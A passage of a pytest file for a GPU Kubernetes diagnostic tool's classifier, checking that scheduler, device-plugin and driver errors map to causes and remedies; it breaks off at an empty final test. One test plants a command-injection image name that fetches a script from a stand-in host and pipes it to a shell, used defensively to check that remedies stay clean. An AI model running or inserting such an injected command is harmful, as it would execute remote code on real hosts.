"""gpuk8s doctor's classifier (gpuk8s/doctor/classify.py) fed the real components' texts (tests/fixtures/doctor,
each quoted from a public issue thread): the scheduler's FailedScheduling messages, the device plugin's logs,
nvidia-container-cli's and NVML's errors; each must come out as its cause, with evidence and a remedy."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from gpuk8s import findings, gpuplan
from gpuk8s.doctor import classify, evidence
from gpuk8s.doctor import diagnose as diagnose_mod
from gpuk8s.doctor.evidence import ClusterEvidence, HostEvidence
from gpuk8s.facts.parse import parse_probe
from gpuk8s.kube.state import DaemonSetState

ROOT = Path(__file__).resolve().parents[2]
FIX = ROOT / "tests" / "fixtures" / "doctor"
H200 = parse_probe((ROOT / "tests" / "fixtures" / "h200" / "probe.txt").read_text())
SCHEMA = json.loads((ROOT / "docs" / "doctor.schema.json").read_text())


def text(name: str) -> str:
    return (FIX / name).read_text()


def node(name: str, gpus: int = 0, labels: dict[str, str] | None = None, taints: list[dict[str, str]] | None = None,
         resource: str = "nvidia.com/gpu", extra: dict[str, int] | None = None) -> dict[str, Any]:
    alloc = {"cpu": "16", **({resource: str(gpus)} if gpus else {}), **{k: str(v) for k, v in (extra or {}).items()}}
    return {"metadata": {"name": name, "labels": {"kubernetes.io/hostname": name, **(labels or {})}},
            "spec": {"taints": taints or []},
            "status": {"allocatable": alloc, "capacity": dict(alloc),
                       "conditions": [{"type": "Ready", "status": "True"}]}}


def pod(name: str, limits: dict[str, Any], on: str = "", phase: str = "Pending", ns: str = "ml",
        **spec: Any) -> dict[str, Any]:
    return {"metadata": {"name": name, "namespace": ns},
            "spec": {"containers": [{"name": "c", "image": spec.pop("image", "busybox"),
                                     "resources": {"limits": limits}}],
                     **({"nodeName": on} if on else {}), **spec},
            "status": {"phase": phase}}


def event(p: dict[str, Any], message: str) -> dict[str, Any]:
    return {"kind": "Event", "involvedObject": {"kind": "Pod", "name": p["metadata"]["name"],
                                                "namespace": p["metadata"]["namespace"]},
            "reason": "FailedScheduling", "type": "Warning", "message": message}


def plan(name: str, gpus: int, **kw: Any) -> gpuplan.GPUPlan:
    p = kw.pop("plugin", gpuplan.PluginSettings())
    return gpuplan.GPUPlan(name, True, gpus, {p.resource: gpus * p.replicas}, plugin=p, **kw)


def ids(fs: list[findings.Finding]) -> list[str]:
    return [f.id for f in fs]


# -- the scheduler's message ----------------------------------------------------------------------------------

def test_the_scheduler_messages_parse() -> None:
    f = classify.parse_fit_error(text("scheduler-insufficient.txt"))
    assert f is not None and f.total == 1 and f.reasons == {"Insufficient nvidia.com/gpu": 1}
    assert f.preemption.startswith("0/1 nodes are available: 1 No preemption victims")
    f = classify.parse_fit_error(text("scheduler-mixed.txt"))
    assert f is not None and f.reasons == {
        "node(s) had untolerated taint {unschedulable: true}": 1,
        "node(s) didn't match pod topology spread constraints": 2,
        "node(s) had untolerated taint {node-role.kubernetes.io/master: }": 3}
    f = classify.parse_fit_error(text("scheduler-hami.txt"))
    assert f is not None and f.reasons["NodeUnfitPod"] == 1 and f.reasons["node unregistered"] == 2
    assert classify.parse_fit_error("container is waiting to start") is None


def test_insufficient_gpus_names_the_pods_holding_them() -> None:
    waiting = pod("big", {"nvidia.com/gpu": "2"})
    holders = [pod("train", {"nvidia.com/gpu": "1"}, on="gpu-1", phase="Running"),
               pod("infer", {"nvidia.com/gpu": "1"}, on="gpu-1", phase="Running", ns="serve")]
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 2)}, [waiting, *holders],
                         [event(waiting, text("scheduler-insufficient.txt").strip())])
    [f] = classify.pod_causes(waiting, ev)
    assert f.id == "pod.insufficient-gpu" and f.status == "fail" and f.subject == findings.pod("ml/big")
    assert "held by ml/train, serve/infer" in f.message
    assert "gpu-1: 2 nvidia.com/gpu allocatable, 2 requested, 0 free; held by ml/train, serve/infer" in f.evidence
    assert f.evidence[0] == "scheduler: " + text("scheduler-insufficient.txt").strip()
    assert "gpuk8s status" in f.remedy


def test_an_untolerated_taint_says_which_toleration_to_add() -> None:
    taint = {"key": "gpu", "value": "", "effect": "NoSchedule"}
    p = pod("p", {"nvidia.com/gpu": "1"})
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 1, taints=[taint])}, [p], [event(p, text("scheduler-taint.txt"))])
    [f] = classify.pod_causes(p, ev)
    assert f.id == "pod.untolerated-taint" and "{gpu: }" in f.message
    assert "gpu-1: taint gpu:NoSchedule not tolerated by the pod" in f.evidence
    assert "tolerations: [{key: gpu, operator: Exists, effect: NoSchedule}]" in f.remedy
    # tolerated: the taint is not named
    p2 = pod("p2", {"nvidia.com/gpu": "1"}, tolerations=[{"key": "gpu", "operator": "Exists"}])
    f2 = classify._taint(p2, ev, "", "{gpu: }")
    assert not [e for e in f2.evidence if "not tolerated" in e]


def test_a_selector_matching_no_gpu_node() -> None:
    msg = ("0/3 nodes are available: 1 node(s) had untolerated taint {node-role.kubernetes.io/control-plane: }, "
           "2 node(s) didn't match Pod's node affinity/selector. preemption: 0/3 nodes are available: 3 "
           "Preemption is not helpful for scheduling.")
    p = pod("p", {"nvidia.com/gpu": "1"}, nodeSelector={"gpu-type": "h100"})
    nodes = {"cp-1": node("cp-1", taints=[{"key": "node-role.kubernetes.io/control-plane", "effect": "NoSchedule"}]),
             "gpu-1": node("gpu-1", 2, {gpuplan.GPU_PRESENT: "true"}),
             "gpu-2": node("gpu-2", 2, {gpuplan.GPU_PRESENT: "true", "gpu-type": "a100"})}
    ev = ClusterEvidence(nodes, [p], [event(p, msg)])
    fs = classify.pod_causes(p, ev)
    # the control plane's taint is not a cause: no GPU node has it
    assert ids(fs) == ["pod.selector-mismatch"]
    sel = fs[0]
    assert "gpu-1: nodeSelector gpu-type=h100 (node has no such label)" in sel.evidence
    assert "gpu-2: nodeSelector gpu-type=h100 (node has a100)" in sel.evidence
    assert "kubectl label node" in sel.remedy


@pytest.mark.parametrize(("resource", "offers", "hint"), [
    ("nvidia.com/gpu", {"nvidia.com/mig-1g.10gb": 7}, "ask for one of nvidia.com/mig-1g.10gb"),
    ("aliyun.com/gpu-mem", {"nvidia.com/gpu": 2}, "gpushare"),
    ("nvidia.com/gpu.shared", {"nvidia.com/gpu": 2}, "ask for a resource a node offers (nvidia.com/gpu)"),
])
def test_a_resource_no_node_offers(resource: str, offers: dict[str, int], hint: str) -> None:
    p = pod("p", {resource: "1"})
    msg = f"0/2 nodes are available: 2 Insufficient {resource}. preemption: 0/2 nodes are available: 2 No " \
          "preemption victims found for incoming pod."
    ev = ClusterEvidence({"gpu-1": node("gpu-1", extra=offers), "cp-1": node("cp-1")}, [p], [event(p, msg)])
    fs = classify.pod_causes(p, ev)
    assert ids(fs) == ["pod.unknown-resource"]  # not also "insufficient": no node has any
    assert hint in fs[0].remedy and f"the pod asks for {resource}, which no node offers" == fs[0].message
    assert any(e.startswith("GPU resources the nodes offer: ") for e in fs[0].evidence)


def test_more_than_one_shared_gpu_is_refused() -> None:
    p = pod("two", {"nvidia.com/gpu": "2"}, on="gpu-1", phase="Failed")
    p["status"].update(reason="UnexpectedAdmissionError", message=text("shared-gt1.txt").strip())
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 8)}, [p])
    [f] = classify.pod_causes(p, ev)
    assert f.id == "pod.shared-request-gt1" and "asks for 2 shared GPUs on gpu-1" in f.message
    assert any("maximum request size for shared resources is 1" in e for e in f.evidence)
    assert "fail_requests_greater_than_one: false" in f.remedy


def host(**containerd: Any) -> HostEvidence:
    facts = dataclasses.replace(H200, containerd_config=dataclasses.replace(H200.containerd_config, **containerd),
                                gpu=dataclasses.replace(H200.gpu, driver="535.104.05", cuda_version="12.2"))
    return HostEvidence(facts, "containerd", ("kubelet.sock",), 0)


def test_an_image_newer_than_the_driver() -> None:
    p = pod("cuda", {"nvidia.com/gpu": "1"}, on="gpu-1", phase="Failed", image="nvidia/cuda:12.8.0-base-ubuntu22.04")
    p["status"]["containerStatuses"] = [{"name": "c", "state": {"terminated": {
        "reason": "StartError", "exitCode": 128, "message": text("cuda-requirement.txt")}}}]
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 1)}, [p], hosts={"gpu-1": host(default_runtime="nvidia")})
    [f] = classify.pod_causes(p, ev)
    assert f.id == "pod.cuda-too-new"
    assert f.message == "the image needs CUDA 12.8, newer than the driver 535.104.05 on gpu-1 supports (CUDA 12.2)"
    assert "nvidia-smi: 1 GPU(s), driver 535.104.05, CUDA 12.2" in f.evidence
    assert "images: nvidia/cuda:12.8.0-base-ubuntu22.04" in f.evidence and "12.2" in f.remedy


def test_nvml_unknown_error_after_daemon_reload() -> None:
    p = pod("loop", {"nvidia.com/gpu": "1"}, on="gpu-1", phase="Running")
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 1)}, [p], logs={("ml", "loop"): text("nvml-unknown.log")},
                         hosts={"gpu-1": host(default_runtime="nvidia", systemd_cgroup=True)})
    [f] = classify.pod_causes(p, ev)
    assert f.id == "pod.nvml-unknown-error"
    assert "systemd cgroup driver: yes" in f.evidence and "/dev/char links to NVIDIA devices: 0" in f.evidence
    assert "nvidia-ctk system create-dev-char-symlinks --create-all" in f.remedy


def test_a_pod_without_the_nvidia_runtime() -> None:
    p = pod("smi", {"nvidia.com/gpu": "1"}, on="gpu-1", phase="Failed")
    p["status"]["containerStatuses"] = [{"name": "c", "state": {"terminated": {
        "reason": "StartError", "message": 'failed to create containerd task: failed to create shim task: OCI runtime '
        'create failed: runc create failed: unable to start container process: exec: "nvidia-smi": executable file '
        'not found in $PATH: unknown'}}}]
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 1)}, [p], hosts={"gpu-1": host(default_runtime="runc")})
    [f] = classify.pod_causes(p, ev)
    assert f.id == "pod.no-nvidia-runtime" and "node default runtime: runc" in f.evidence
    assert "runtimeClassName: nvidia" in f.remedy
    p["spec"]["runtimeClassName"] = "nvidia"  # it asked for the runtime: another cause, not this one
    assert "pod.no-nvidia-runtime" not in ids(classify.pod_causes(p, ev))


def test_out_of_gpu_memory_on_a_time_sliced_node() -> None:
    p = pod("a", {"nvidia.com/gpu": "1"}, on="gpu-1", phase="Running")
    other = pod("b", {"nvidia.com/gpu": "1"}, on="gpu-1", phase="Running")
    log = ("torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 20.00 GiB. GPU 0 has a total capacity of "
           "79.25 GiB of which 3.12 GiB is free.\n")
    sliced = plan("gpu-1", 1, sharing="time-slicing", replicas=4,
                  plugin=gpuplan.PluginSettings("time-slicing", 4), gpu_memory_mib=81920)
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 4)}, [p, other], plans={"gpu-1": sliced},
                         logs={("ml", "a"): log})
    [f] = classify.pod_causes(p, ev)
    assert f.id == "pod.gpu-oom" and "time-slicing node, where 4 pods share" in f.message
    assert "other GPU pods on gpu-1: ml/b" in f.evidence and "replicas" in f.remedy


def test_hami_scheduler_or_webhook_missing() -> None:
    p = pod("v", {"nvidia.com/gpu": "1", "nvidia.com/gpumem": "4096"}, schedulerName="hami-scheduler")
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 10)}, [p])
    [f] = classify.pod_causes(p, ev)
    assert f.id == "pod.scheduler-missing" and "hami-scheduler, which is not deployed" in f.message
    p2 = pod("v2", {"nvidia.com/gpu": "1", "nvidia.com/gpumem": "4096"})  # the webhook did not mutate it
    [f2] = classify.pod_causes(p2, ClusterEvidence({"gpu-1": node("gpu-1", 10)}, [p2], hami_scheduler=True))
    assert f2.id == "pod.scheduler-missing" and "HAMi's webhook did not set schedulerName" in f2.message


# -- nodes ----------------------------------------------------------------------------------------------------

PLUGIN = DaemonSetState("nvidia-device-plugin-daemonset", 2, 2, 2)


def plugin_pod(node_name: str, namespace: str = "kube-system", privileged: bool = False,
               **status: Any) -> dict[str, Any]:
    """The plugin DaemonSet's pod on a node, as the API lists it (its template's containers, its owner)."""
    sc = {"capabilities": {"add": ["SYS_ADMIN"]}} if privileged else {
        "allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
    image = "nvcr.io/nvidia/k8s-device-plugin:v0.17.0"
    return {"metadata": {"name": f"nvidia-device-plugin-daemonset-{node_name}", "namespace": namespace,
                         "ownerReferences": [{"kind": "DaemonSet", "name": "nvidia-device-plugin-daemonset"}]},
            "spec": {"nodeName": node_name,
                     "initContainers": [{"name": "nvidia-device-plugin-init", "image": image}],
                     "containers": [{"name": "nvidia-device-plugin-ctr", "image": image, "securityContext": sc}]},
            "status": {"phase": "Running", **status}}


def test_a_node_whose_runtime_default_is_not_nvidia() -> None:
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 0, {gpuplan.GPU_PRESENT: "true"})}, [plugin_pod("gpu-1")],
                         plans={"gpu-1": plan("gpu-1", 2)}, plugin=PLUGIN,
                         logs={("kube-system", "nvidia-device-plugin-daemonset-gpu-1"): text("plugin-nvml-v017.log")},
                         hosts={"gpu-1": host(default_runtime="runc")})
    assert classify.node_problem("gpu-1", ev)
    [f] = classify.node_causes("gpu-1", ev)
    assert f.id == "gpu.runtime-not-nvidia" and f.subject == findings.node("gpu-1")
    assert "container runtime default on the host: runc" in f.evidence
    assert "containerd default runtime: runc" not in f.evidence  # said once
    assert any("Incompatible strategy detected auto" in e for e in f.evidence)
    assert classify.fixable(f, ev) == "prepare"


def test_the_legacy_plugin_log_with_nvidia_default_is_no_nvml() -> None:
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 0)}, [plugin_pod("gpu-1")], plans={"gpu-1": plan("gpu-1", 2)},
                         plugin=PLUGIN,
                         logs={("kube-system", "nvidia-device-plugin-daemonset-gpu-1"): text("plugin-nvml-legacy.log")},
                         hosts={"gpu-1": host(default_runtime="nvidia")})
    [f] = classify.node_causes("gpu-1", ev)
    assert f.id == "gpu.plugin-no-nvml" and "nvidia-container-toolkit" in f.remedy
    assert any("could not load NVML library" in e for e in f.evidence)
    # it loads NVML once, at start: a restart of its pod is the first remedy, and --fix applies it
    assert "kubectl -n kube-system delete pod nvidia-device-plugin-daemonset-gpu-1" in f.remedy
    assert classify.fixable(f, ev) == "plugin"
    # the host not read (no runtime default known): not restarted blindly
    unread = dataclasses.replace(ev, hosts={})
    [f] = classify.node_causes("gpu-1", unread)
    assert f.id == "gpu.plugin-no-nvml" and classify.fixable(f, unread) == ""


def test_a_plugin_that_runs_without_its_socket() -> None:
    h = dataclasses.replace(host(default_runtime="nvidia"), sockets=("kubelet.sock",))
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 0)}, [plugin_pod("gpu-1")], plans={"gpu-1": plan("gpu-1", 2)},
                         plugin=PLUGIN, logs={("kube-system", "nvidia-device-plugin-daemonset-gpu-1"): ""},
                         hosts={"gpu-1": h})
    [f] = classify.node_causes("gpu-1", ev)
    assert f.id == "gpu.plugin-socket-missing" and f"{evidence.DEVICE_PLUGINS}: kubelet.sock" in f.evidence
    h2 = dataclasses.replace(h, sockets=("kubelet.sock", "nvidia-gpu.sock"))  # registered: another cause
    assert ids(classify.node_causes("gpu-1", dataclasses.replace(ev, hosts={"gpu-1": h2}))) == ["gpu.plugin-no-nvml"]


def test_missing_label_and_image_pull() -> None:
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 0)}, [], plans={"gpu-1": plan("gpu-1", 2)}, plugin=PLUGIN)
    [f] = classify.node_causes("gpu-1", ev)
    assert f.id == "gpu.plugin-not-scheduled" and "node label nvidia.com/gpu.present: missing" in f.evidence
    assert classify.fixable(f, ev) == "gpu"
    pulling = plugin_pod("gpu-1", phase="Pending", containerStatuses=[{"name": "nvidia-device-plugin-ctr",
                         "state": {"waiting": {"reason": "ImagePullBackOff", "message": 'Back-off pulling image '
                                               '"nvcr.io/nvidia/k8s-device-plugin:v0.17.0"'}}}])
    failed = {"involvedObject": {"kind": "Pod", "namespace": "kube-system",
                                 "name": "nvidia-device-plugin-daemonset-gpu-1"},
              "reason": "Failed", "type": "Warning", "message": text("image-pull-failed.txt").strip()}
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 0, {gpuplan.GPU_PRESENT: "true"})}, [pulling],
                         plans={"gpu-1": plan("gpu-1", 2)}, plugin=PLUGIN, events=[failed])
    [f] = classify.node_causes("gpu-1", ev)
    assert f.id == "gpu.plugin-image-pull"
    assert "cannot pull the device plugin's image nvcr.io/nvidia/k8s-device-plugin:v0.17.0" in f.message
    assert f.message.endswith("(nvcr.io/nvidia/driver:460.73.01-ubuntu21.04: not found)")  # the event's reason
    assert "sudo crictl pull nvcr.io/nvidia/k8s-device-plugin:v0.17.0" in f.remedy and "registry.mirror" in f.remedy
    assert any("ImagePullBackOff" in e for e in f.evidence)
    assert any(e.startswith("event: Failed to pull image") and "code = NotFound" in e for e in f.evidence)
    assert classify.fixable(f, ev) == ""
    # another pod's event is not this plugin's evidence
    other = {**failed, "involvedObject": {**failed["involvedObject"], "name": "someone-else"}}
    [f] = classify.node_causes("gpu-1", dataclasses.replace(ev, events=[other]))
    assert f.id == "gpu.plugin-image-pull" and not any(e.startswith("event: ") for e in f.evidence)


def test_an_init_container_that_cannot_pull_and_hostile_names() -> None:
    # the real plugin pod fails in its init container (same image): Init:ErrImagePull with the runtime's raw error
    raw = text("image-pull-failed.txt").strip().split(": ", 1)[1]
    pulling = plugin_pod("gpu-1", phase="Pending", initContainerStatuses=[{"name": "nvidia-device-plugin-init",
                         "state": {"waiting": {"reason": "ErrImagePull", "message": raw}}}],
                         containerStatuses=[{"name": "nvidia-device-plugin-ctr",
                                             "state": {"waiting": {"reason": "PodInitializing"}}}])
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 0, {gpuplan.GPU_PRESENT: "true"})}, [pulling],
                         plans={"gpu-1": plan("gpu-1", 2)}, plugin=PLUGIN)
    [f] = classify.node_causes("gpu-1", ev)
    assert f.id == "gpu.plugin-image-pull"
    assert "image nvcr.io/nvidia/k8s-device-plugin:v0.17.0" in f.message  # from the pod's spec, not the message
    # an image string that is no image reference never reaches a command in the remedy
    bad = "nvcr.io/x;curl${IFS}evil.sh|sh"
    hostile = json.loads(json.dumps(pulling).replace("nvcr.io/nvidia/k8s-device-plugin:v0.17.0", bad))
    [f] = classify.node_causes("gpu-1", dataclasses.replace(ev, pods=[hostile]))
    assert f.id == "gpu.plugin-image-pull" and "crictl" not in f.remedy and bad not in f.remedy
    # a look-alike pod in a user's namespace is not the plugin
    fake = plugin_pod("gpu-1", namespace="team-a", phase="Pending", initContainerStatuses=[
        {"name": "nvidia-device-plugin-init", "state": {"waiting": {"reason": "ErrImagePull"}}}])
    [f] = classify.node_causes("gpu-1", dataclasses.replace(ev, pods=[fake]))
    assert f.id == "gpu.plugin-not-scheduled"
    # nor is one in kube-system that the plugin's DaemonSet does not own: not the plugin for the verdict either
    # (state.is_device_plugin_pod, the one ownership check), and no source of remedies
    orphan = {**pulling, "metadata": {**pulling["metadata"], "ownerReferences": []}}
    [f] = classify.node_causes("gpu-1", dataclasses.replace(ev, pods=[orphan]))
    assert f.id == "gpu.plugin-not-scheduled" and "crictl" not in f.remedy


def test_the_toolkit_refusing_the_envvar_to_an_unprivileged_plugin() -> None:
    # NVIDIA/k8s-device-plugin#856: accept-nvidia-visible-devices-envvar-when-unprivileged = false, plugin unprivileged
    h = dataclasses.replace(host(default_runtime="nvidia"), envvar_unprivileged=False,
                            sockets=("kubelet.sock",))
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 0, {gpuplan.GPU_PRESENT: "true"})}, [plugin_pod("gpu-1")],
                         plans={"gpu-1": plan("gpu-1", 2)}, plugin=PLUGIN,
                         logs={("kube-system", "nvidia-device-plugin-daemonset-gpu-1"): text("plugin-nvml-v017.log")},
                         hosts={"gpu-1": h})
    [f] = classify.node_causes("gpu-1", ev)
    assert f.id == "gpu.plugin-no-nvml" and "ignores NVIDIA_VISIBLE_DEVICES" in f.message
    assert f"{evidence.TOOLKIT_CONFIG}: {evidence.ENVVAR_UNPRIVILEGED} = false" in f.evidence
    assert "= true" in f.remedy and "delete pod nvidia-device-plugin-daemonset-gpu-1" in f.remedy
    assert "plugin pod nvidia-device-plugin-daemonset-gpu-1: unprivileged (no CAP_SYS_ADMIN)" in f.evidence
    assert classify.fixable(f, ev) == ""  # a restart alone does not help
    # the setting left at its default (unset): the general NVML remedy
    [f] = classify.node_causes("gpu-1", dataclasses.replace(ev, hosts={"gpu-1": host(default_runtime="nvidia")}))
    assert f.id == "gpu.plugin-no-nvml" and "ignores NVIDIA_VISIBLE_DEVICES" not in f.message
    # a plugin with CAP_SYS_ADMIN (gpuk8s gives it where MIG is used) is privileged to the toolkit: not this cause
    [f] = classify.node_causes("gpu-1", dataclasses.replace(ev, pods=[plugin_pod("gpu-1", privileged=True)]))
    assert f.id == "gpu.plugin-no-nvml" and "ignores NVIDIA_VISIBLE_DEVICES" not in f.message


def test_a_broken_driver() -> None:
    broken = dataclasses.replace(H200, gpu=dataclasses.replace(
        H200.gpu, state="failed", gpus=(), error="NVIDIA-SMI has failed because it couldn't communicate with the "
        "NVIDIA driver. Make sure that the latest NVIDIA driver is installed and running."))
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 0, {gpuplan.GPU_PRESENT: "true"})}, [plugin_pod("gpu-1")],
                         plans={"gpu-1": plan("gpu-1", 2)}, plugin=PLUGIN,
                         hosts={"gpu-1": HostEvidence(broken, "containerd")})
    [f] = classify.node_causes("gpu-1", ev)
    assert f.id == "gpu.driver" and any("couldn't communicate with the NVIDIA driver" in e for e in f.evidence)


def test_a_healthy_node_and_pod_have_no_cause() -> None:
    ok = pod("ok", {"nvidia.com/gpu": "1"}, on="gpu-1", phase="Running")
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 2, {gpuplan.GPU_PRESENT: "true"})}, [plugin_pod("gpu-1"), ok],
                         plans={"gpu-1": plan("gpu-1", 2)}, plugin=PLUGIN,
                         logs={("kube-system", "nvidia-device-plugin-daemonset-gpu-1"): text("plugin-registered.log")})
    assert not classify.node_problem("gpu-1", ev) and classify.node_causes("gpu-1", ev) == []
    assert not classify.troubled(ok) and classify.pod_causes(ok, ev) == []


def test_a_label_gpuk8s_keeps_that_differs_from_the_plan_is_named_and_fixed_by_the_gpu_phase() -> None:
    """A node offering its GPUs as planned, with the GPU count label of an earlier state (a GPU lost when install
    labelled it, back since): gpu.labels-stale names the label, its value and the plan's; --fix re-runs the gpu
    phase. A label the plan leaves undecided (no facts) is not compared; a user's own label never."""
    p = plan("gpu-1", 2, labels={gpuplan.GPU_PRESENT: "true", gpuplan.COUNT_LABEL: "2", gpuplan.PRODUCT_LABEL: "X"},
             undecided=(gpuplan.PRODUCT_LABEL,))
    labels = {gpuplan.GPU_PRESENT: "true", gpuplan.COUNT_LABEL: "1", gpuplan.PRODUCT_LABEL: "Y", "team": "a"}
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 2, labels)}, [plugin_pod("gpu-1")], plans={"gpu-1": p},
                         plugin=PLUGIN)
    [f] = classify.node_causes("gpu-1", ev)
    assert (f.id, f.status) == ("gpu.labels-stale", "warn")
    assert f.message == "1 label(s) gpuk8s keeps on gpu-1 differ from its GPU plan: nvidia.com/gpu.count=1 (plan: 2)"
    assert classify.fixable(f, ev) == "gpu"
    ev.nodes["gpu-1"]["metadata"]["labels"][gpuplan.COUNT_LABEL] = "2"
    assert classify.node_causes("gpu-1", ev) == []
    # a hostile label value is shown capped, never whole
    ev.nodes["gpu-1"]["metadata"]["labels"][gpuplan.COUNT_LABEL] = "9" * 5000
    [f] = classify.node_causes("gpu-1", ev)
    assert len(f.message) < 1000


def test_the_json_follows_the_schema() -> None:
    from gpuk8s.doctor.diagnose import Diagnosis

    p = pod("big", {"nvidia.com/gpu": "4"})
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 2)}, [p], [event(p, text("scheduler-insufficient.txt"))])
    d = Diagnosis(ev, [("ml", "big")], [], classify.pod_causes(p, ev))
    doc = d.to_json([{"name": "gpu", "title": "t", "status": "changed", "message": "", "remedy": "", "hosts": {}}])
    jsonschema.validate(doc, SCHEMA)
    assert doc["ok"] is False and doc["findings"][0]["id"] == "pod.insufficient-gpu"
    jsonschema.validate(Diagnosis(ev, [], [], []).to_json(), SCHEMA)


def test_every_id_doctor_makes_is_registered_for_doctor() -> None:
    mine = findings.ids("doctor")
    for i in ("pod.insufficient-gpu", "pod.selector-mismatch", "pod.untolerated-taint", "pod.unknown-resource",
              "pod.shared-request-gt1", "pod.cuda-too-new", "pod.nvml-unknown-error", "pod.no-nvidia-runtime",
              "pod.gpu-oom", "pod.scheduler-missing", "gpu.plugin-socket-missing", "gpu.plugin-image-pull",
              "gpu.runtime-not-nvidia", "gpu.plugin-not-scheduled", "gpu.driver", *classify.FIXES):
        assert i in mine, i


# -- the command's reading, through the kube client seam ------------------------------------------------------

class EventfulKube:
    """tests/unit/fakekube.FakeKube with the events and logs a real API server would give."""

    def __init__(self, events: list[dict[str, Any]], logs: dict[str, str]) -> None:
        from tests.unit.fakekube import FakeKube

        self.kube = FakeKube()
        self.kube.event_list = events  # type: ignore[attr-defined]
        self.kube.logs = lambda pod, namespace, tail=50: logs.get(pod, "")  # type: ignore[method-assign]


def test_diagnose_selects_reads_and_classifies_through_the_seam() -> None:
    from gpuk8s.doctor.diagnose import Diagnosis, diagnose
    from gpuk8s.doctor.fixes import fix_targets
    from gpuk8s.inventory.loader import loads

    inv = loads("hosts:\n  - {name: cp-1, address: 10.0.0.1, role: control-plane}\n"
                "  - {name: gpu-1, address: 10.0.0.2, gpus: 2}\n  - {name: gpu-2, address: 10.0.0.3, gpus: 2}\n")
    big = pod("big", {"nvidia.com/gpu": "4"}, ns="default")
    ok = pod("ok", {"nvidia.com/gpu": "1"}, on="gpu-1", phase="Running", ns="default")
    k = EventfulKube([event(big, text("scheduler-insufficient.txt"))],
                     {"nvidia-device-plugin-daemonset-gpu-2": text("plugin-nvml-v017.log")})
    kube = k.kube
    kube.add_node("cp-1")
    kube.add_node("gpu-1", 2, {gpuplan.GPU_PRESENT: "true"})
    kube.add_node("gpu-2", 0, {gpuplan.GPU_PRESENT: "true"})
    for p in (big, ok, plugin_pod("gpu-1"), plugin_pod("gpu-2")):
        kube.objects[("pod", p["metadata"]["namespace"], p["metadata"]["name"])] = p
    kube.objects[("daemonset", "kube-system", "nvidia-device-plugin-daemonset")] = {
        "metadata": {"name": "nvidia-device-plugin-daemonset", "namespace": "kube-system"},
        "status": {"desiredNumberScheduled": 2, "currentNumberScheduled": 2, "numberReady": 2}}
    d = diagnose(inv, kube, None, False, False, {})  # type: ignore[arg-type]
    assert isinstance(d, Diagnosis)
    assert d.pods == [("default", "big")] and d.nodes == ["gpu-2"]  # the healthy pod and node are left alone
    assert ids(d.findings) == ["gpu.plugin-no-nvml", "pod.insufficient-gpu"]  # nodes first: they explain pods
    assert any("Incompatible strategy detected auto" in e for e in d.findings[0].evidence)
    assert not [c for c in kube.calls if c[0] not in ("get", "raw_get", "events")]  # doctor without --fix only reads
    assert fix_targets(d) == {}  # without the host's runtime default, no-nvml is not one gpuk8s fixes
    every = diagnose(inv, kube, None, True, False, {})  # type: ignore[arg-type]
    assert ("default", "ok") in every.pods and every.nodes == ["gpu-1", "gpu-2"]
    one = diagnose(inv, kube, "big", False, False, {})  # type: ignore[arg-type]
    assert one.pods == [("default", "big")] and one.nodes == []
    with pytest.raises(LookupError):
        diagnose(inv, kube, "nope", False, False, {})  # type: ignore[arg-type]
    with pytest.raises(LookupError, match="no node gpu-9"):
        diagnose(inv, kube, "node/gpu-9", False, False, {})  # type: ignore[arg-type]


def test_doctor_reads_only_pods_not_done_and_pod_warnings() -> None:
    """Issue 27: at scale the pod and event lists are doctor's cost: the API server narrows both (pods not
    Succeeded, the pods' Warning events), and a pod the user names is still found when it has succeeded."""
    from gpuk8s.doctor.diagnose import diagnose
    from gpuk8s.inventory.loader import loads

    inv = loads("hosts:\n  - {name: cp-1, address: 10.0.0.1, role: control-plane}\n"
                "  - {name: gpu-1, address: 10.0.0.2, gpus: 2}\n")
    big = pod("big", {"nvidia.com/gpu": "4"}, ns="default")
    done = pod("done", {"nvidia.com/gpu": "1"}, on="gpu-1", phase="Succeeded", ns="default")
    warn = event(big, text("scheduler-insufficient.txt"))
    normal = {**event(big, "Successfully assigned default/big to gpu-1"), "reason": "Scheduled", "type": "Normal"}
    node_event = {**event(big, "Node gpu-1 status is now: NodeReady"), "type": "Warning",
                  "involvedObject": {"kind": "Node", "name": "gpu-1"}}
    k = EventfulKube([normal, warn, node_event], {})
    kube = k.kube
    kube.add_node("cp-1")
    kube.add_node("gpu-1", 2, dict(gpuplan.plans(inv, {})["gpu-1"].labels))  # as install labelled it
    for p in (big, done, plugin_pod("gpu-1")):
        kube.objects[("pod", p["metadata"]["namespace"], p["metadata"]["name"])] = p
    d = diagnose(inv, kube, None, True, False, {})  # type: ignore[arg-type]
    assert ("default", "big") in d.pods and ("default", "done") not in d.pods
    assert ("get", "pods", "", "*", "status.phase!=Succeeded") in kube.calls
    assert ("events", "*", "involvedObject.kind=Pod,type=Warning") in kube.calls
    assert d.ev.events == [warn]
    assert ids(d.findings) == ["pod.insufficient-gpu"]
    kube.calls.clear()
    named = diagnose(inv, kube, "done", False, False, {})  # type: ignore[arg-type]
    assert named.pods == [("default", "done")]
    assert ("get", "pods", "", "*") in kube.calls
    # a GPU node whose GPU count the inventory leaves to the facts: looked at when it shows no GPU at all
    inv2 = loads("hosts:\n  - {name: cp-1, address: 10.0.0.1, role: control-plane}\n"
                 "  - {name: gpu-1, address: 10.0.0.2}\n  - {name: gpu-2, address: 10.0.0.3}\n")
    assert diagnose(inv2, kube, None, False, False, {}).nodes == ["gpu-2"]  # type: ignore[arg-type]


def test_the_host_probe_with_doctors_sections() -> None:
